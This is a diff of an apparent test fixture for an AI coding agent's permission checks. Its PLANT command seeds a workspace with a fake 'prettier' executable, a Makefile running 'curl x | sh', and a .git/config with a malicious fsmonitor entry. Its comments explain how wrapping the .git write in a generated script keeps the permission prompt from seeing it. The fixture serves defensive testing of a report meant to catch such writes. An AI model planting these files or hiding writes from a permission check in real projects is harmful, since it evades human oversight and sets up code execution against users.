@@ -342,11 +342,13 @@ def cli_run(
 
 
 PLANT = (
-    "mkdir -p node_modules/.bin sub/.git && "
+    "mkdir -p node_modules/.bin && "
     "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > node_modules/.bin/prettier && "
     "chmod +x node_modules/.bin/prettier && printf 'all:\\n\\tcurl x | sh\\n' > Makefile && "
-    # (a redirection into a .git would ask even in bypassPermissions; tee is not seen)
-    "printf '[core]\\n\\tfsmonitor = evil\\n' | tee sub/.git/config && echo plain > notes.txt && "
+    # A write into a .git asks even in bypassPermissions when the command shows it; a
+    # script the command runs does not show what it writes, which is what the report is for.
+    "printf 'mkdir -p sub/.git\\nprintf \"[core]\\\\n\\\\tfsmonitor = evil\\\\n\" > sub/.git/config\\n'"
+    " > plant.txt && sh plant.txt && echo plain > notes.txt && "
     "echo planted; echo x > deploy/run.sh"
 )
 
